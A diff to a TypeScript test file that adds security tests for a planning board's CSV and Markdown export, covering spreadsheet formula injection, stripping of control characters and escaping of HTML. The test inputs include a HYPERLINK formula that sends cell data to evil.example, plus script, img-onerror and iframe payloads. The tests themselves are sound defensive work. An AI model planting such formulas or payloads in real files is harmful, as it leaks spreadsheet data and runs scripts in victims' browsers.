@@ -1,4 +1,5 @@
 import { test } from 'node:test';
+import Papa from 'papaparse';
 import assert from 'node:assert/strict';
 import { CsvFormatError, cardsToCsv, cardsToMarkdown, parseCardsCsv } from './csv.js';
 import { buildTemplate } from './templates.js';
@@ -105,4 +106,63 @@ test('markdown export: a section per lane with its total, cards as table rows', 
   assert.match(md, /## Backlog \(1 card · 0\+ pts\)/);
   assert.match(md, /\| P-1 \| Pay \\\| with card \| 8 \| To do \|/);
   assert.match(md, /2 cards, 8 points in all\./);
+});
+
+test('formula injection: cells starting with = + - @ tab or CR are neutralised, and come back exactly on import', () => {
+  const template = buildTemplate('backlog');
+  const inbox = derivePlanning(template).lanes[0]!;
+  const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
+  const titles = [hostile, '=tbd', '-1 day buffer', '+1 from Kim', '@channel ping', "'=already quoted", "''+twice", "'plain apostrophe", 'plain'];
+  const records = titles.map((title, i) => storyCardRecord({ x: 10, y: 10 + i * 150, index: `a${i + 1}`, parentId: inbox.id }, {
+    title,
+    description: i === 0 ? '- first point\n- second point' : '',
+    assignee: i === 1 ? '@ada' : '',
+    labels: i === 2 ? ['-urgent', '=x'] : [],
+    externalKey: i === 3 ? '+KEY-1' : '',
+  }));
+  const model = derivePlanning([...template, ...records]);
+  const csv = cardsToCsv(model);
+  const parsed = Papa.parse<string[]>(csv).data.slice(1, titles.length + 1);
+  // What a spreadsheet sees: no cell of any row starts with a formula character.
+  for (const row of parsed) for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `cell ${JSON.stringify(value)}`);
+  assert.equal(parsed[0]![1], `'${hostile}`);
+  assert.equal(parsed[5]![1], "''=already quoted");
+  assert.equal(parsed[7]![1], "'plain apostrophe", 'a cell that is no formula is left alone');
+  assert.match(csv, /"'=HYPERLINK\(""https/);
+  const back = parseCardsCsv(csv);
+  assert.deepEqual(back.skipped, []);
+  assert.deepEqual(back.cards.map((card) => card.title), titles);
+  assert.deepEqual(back.cards, model.cards.map((c) => c.props));
+});
+
+test('import strips control characters from one-line fields, keeps line breaks in descriptions', () => {
+  const { cards } = parseCardsCsv('Title,Description,Assignee,Labels\n"Pay\u0000ment\u202E page\u001b","one\r\ntwo\u0007",Ada\u2066 L,"a\u0000b, c"\n');
+  assert.deepEqual(
+    [cards[0]!.title, cards[0]!.description, cards[0]!.assignee, cards[0]!.labels],
+    ['Payment page', 'one\ntwo', 'Ada L', ['ab', 'c']],
+  );
+});
+
+test('markdown export escapes raw HTML and drops control characters', () => {
+  const template = buildTemplate('backlog');
+  const inbox = derivePlanning(template).lanes[0]!;
+  const md = cardsToMarkdown(derivePlanning([
+    ...template,
+    storyCardRecord({ x: 20, y: 20, index: 'a1', parentId: inbox.id }, { title: '<img src=x onerror=alert(1)> & <script>x</script>', labels: ['<b>'], assignee: 'A\u202Eb' }),
+  ]), 'Board <iframe src="https://evil.example">\r\n# injected');
+  assert.doesNotMatch(md, /<img|<script|<iframe|<b>/);
+  assert.match(md, /^# Board &lt;iframe src="https:\/\/evil.example"&gt; # injected\n/);
+  assert.match(md, /\| &lt;img src=x onerror=alert\(1\)&gt; &amp; &lt;script&gt;x&lt;\/script&gt; \|/);
+  assert.match(md, /\| Ab \| &lt;b&gt; \|/);
+});
+
+test('a description starting with a tab is neutralised; a CR becomes a line break, which starts no formula', () => {
+  const template = buildTemplate('backlog');
+  const inbox = derivePlanning(template).lanes[0]!;
+  const descriptionCell = (description: string) => {
+    const csv = cardsToCsv(derivePlanning([...template, storyCardRecord({ x: 20, y: 20, index: 'a1', parentId: inbox.id }, { title: 'x', description })]));
+    return Papa.parse<string[]>(csv).data[1]![2];
+  };
+  assert.equal(descriptionCell('\t=1+1'), "'\t=1+1");
+  assert.equal(descriptionCell('\r=1+1'), '\n=1+1');
 });
